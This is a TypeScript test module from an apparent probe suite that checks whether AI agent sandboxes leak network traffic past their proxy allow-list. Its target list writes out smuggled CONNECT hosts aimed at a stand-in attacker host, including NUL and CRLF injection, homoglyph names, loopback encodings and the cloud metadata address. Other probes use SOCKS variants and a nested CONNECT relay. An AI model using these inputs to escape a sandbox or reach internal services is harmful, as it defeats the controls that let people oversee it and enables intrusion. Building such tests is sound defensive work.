// Techniques 54, 55, 57: what a proxy can be told. Through the proxy a target sets, else said to the allowed host as if it
// were one, so that nothing else is refused. Where there is no boundary there is none. The name is the allowed one with
// something done to it that leads elsewhere.

import { readFileSync } from "node:fs";
import type { Logged } from "../../../journeys/stage.ts";
import { asked, reached, slug } from "../../oracles.ts";
import type { Probe } from "../../probe.ts";
import { allowed, evil } from "../../rig/world.ts";

const proxy = readFileSync(new URL("../../inside/proxy.py", import.meta.url), "utf8");
const host = allowed.name;

/** A target of CONNECT, and why it might lead elsewhere. */
const targets: readonly (readonly [string, string])[] = [
  [`${evil.name}\0.${host}:443`, "a NUL"],
  [`${evil.name}%00.${host}:443`, "an encoded NUL"],
  [`${host}@${evil.name}:443`, "user information"],
  [`${evil.name}#.${host}:443`, "a fragment"],
  [`${evil.name}\t.${host}:443`, "a tab"],
  [`${evil.name}:443\r\nX: ${host}`, "a line end"],
  [`${evil.name}.:443`, "a dot at its end"],
  [`${evil.name.toUpperCase()}:443`, "upper case"],
  [`аpi.allowed.test:443`, "a letter of another alphabet"],
  ["xn--pi-6kc.allowed.test:443", "a letter of another alphabet, encoded"],
  [`${"a".repeat(256)}.${evil.name}:443`, "a label of 256 characters"],
  ["[fe80::1%25lo]:443", "a zone"],
  [`${evil.name}:0`, "port 0"],
  [`${evil.name}:65979`, "a port past the last"],
  [`${evil.name}:443junk`, "a port with something behind it"],
  ["2130706433:9099", "loopback as one number"],
  ["0x7f.1:9099", "loopback in hexadecimal"],
  ["[::ffff:127.0.0.1]:9099", "loopback in IPv6"],
  ["[64:ff9b::7f00:1]:9099", "loopback behind NAT64"],
  ["169.254.169.254:80", "a metadata service"],
  [`${evil.ip}:443`, "an address"],
  [`${evil.name}:443`, "another host, plainly"],
];

const away: Probe["landed"] = (after) =>
  reached(evil.ip)(after) ??
  asked(evil.name)(after) ??
  reached("127.0.0.1")(after) ??
  reached("169.254.169.254")(after);

const none = "there is no proxy without a boundary";
const codex = "it lets nothing out, and offers no proxy";
const base = {
  record: "must",
  uncontrolled: none,
  notHere: ({ target }: { target: string }) => (target.startsWith("codex") ? codex : undefined),
  files: () => ({ "proxy.py": proxy }),
  landed: away,
  // what is said in the tunnel names another host, and is refused wherever the tunnel leads
  entry: ({ kind, verdict, rule }: Logged) =>
    ["connection", "refusal"].includes(kind) && verdict === "refuse" && rule !== "gateway:disagreement",
} as const;

const connects = targets.map(
  ([target, title], at): Probe => ({
    ...base,
    id: `connect-${String(at + 1).padStart(2, "0")}-${slug(title)}`,
    technique: 54,
    title: `CONNECT to ${title}`,
    source: "srt SOCKS5 NUL, OpenShell #1552",
    ...(at === 0 ? { decisive: true } : {}),
    inside: () =>
      `timeout 8 python3 proxy.py connect '${Buffer.from(target).toString("base64")}' ${host}:80 > loot 2>&1`,
  }),
);

const socks = (["4", "4a", "5", "5-bind", "5-udp", "5-half"] as const).map(
  (kind): Probe => ({
    ...base,
    id: `socks-${kind}`,
    technique: 55,
    title: `SOCKS ${kind}`,
    source: "list",
    inside: () => `timeout 8 python3 proxy.py socks${kind} ${evil.name} ${host}:80 > loot 2>&1`,
  }),
);

const relay: Probe = {
  ...base,
  id: "connect-relayed",
  technique: 57,
  title: "CONNECT within CONNECT to another host",
  source: "claude-code #87381",
  inside: () => `timeout 8 python3 proxy.py relay ${host} ${evil.name} ${host}:80 > loot 2>&1`,
};

export const proxies: readonly Probe[] = [...connects, ...socks, relay];
